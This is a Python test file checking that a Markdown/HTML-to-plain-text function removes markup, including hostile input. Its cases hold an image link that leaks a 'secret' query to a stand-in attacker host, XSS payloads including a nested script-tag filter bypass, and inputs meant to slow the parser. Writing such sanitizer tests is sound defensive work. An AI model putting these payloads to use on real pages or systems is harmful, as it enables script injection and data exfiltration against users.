"""Markdown and HTML become plain words, and images nothing at all."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from warmline.domain.plain_text import without_markup


@pytest.mark.parametrize(
    ("marked", "plain"),
    [
        ("# Returns #\n\n**Free** within *30* days", "Returns\n\nFree within 30 days"),
        ("* a\n+ b\n- c\n1. d", "- a\n- b\n- c\n1. d"),
        ("> quoted\n---\n`code`", "quoted\ncode"),
        ("```\ncode\n```", "code\n"),
        ("| a | b |\n|---|:-:|\n| 1 | 2 |", "a, b\n1, 2"),
        ("![x](https://evil.example/?q=secret)", ""),
        ("[![x](https://e.example/i)](https://e.example/p)", "https://e.example/p"),
        ("see [here](https://e.example/a_(b))", "see here (https://e.example/a_(b))"),
        ("[t][1]\n\n[1]: http://e.example", "t\n\n1: http://e.example"),
        ("<p>Hi<br>there</p>", "Hi\nthere\n"),
        ("<img src=x onerror=alert(1)>hello", "hello"),
        ("hello <img src=x onerror=", "hello "),
        ("a<script>alert(1)</script>b", "ab"),
        ("a<scr<script>x</script>ipt>alert(1)</script>b", "ab"),
        ("&lt;img src=x&gt;hello", "hello"),
        ("<a href='https://e.example'>go</a>", "go (https://e.example)"),
        ("<https://e.example|go> <!channel>", "go (https://e.example) "),
        ("~~5~~ __x__ _y_", "5 x y"),
    ],
)
def test_markup_is_taken_away(marked: str, plain: str) -> None:
    assert without_markup(marked) == plain


@pytest.mark.parametrize(
    "text",
    [
        "2*3*4 and snake_case, 4 * 2 = 8",
        "a < b and c > d, I <3 you",
        "Fern & Oak: AT&T",
        'Reply 1 for a person.\n\nFrom our article "Returns"',
        "- a\n- b",
    ],
)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert without_markup(text) == text


@given(st.text("<>ab/![]()*_`# \n&lt;", max_size=60))
def test_nothing_is_left_to_take_away(text: str) -> None:
    plain = without_markup(text)

    assert without_markup(plain) == plain


@pytest.mark.parametrize(
    "hostile", ["<" * 8000, "[" * 8000, "**" * 4000, "<a " * 2600, "![" * 4000]
)
def test_hostile_input_takes_little_time(hostile: str) -> None:
    start = time.perf_counter()
    without_markup(hostile)

    assert time.perf_counter() - start < 2
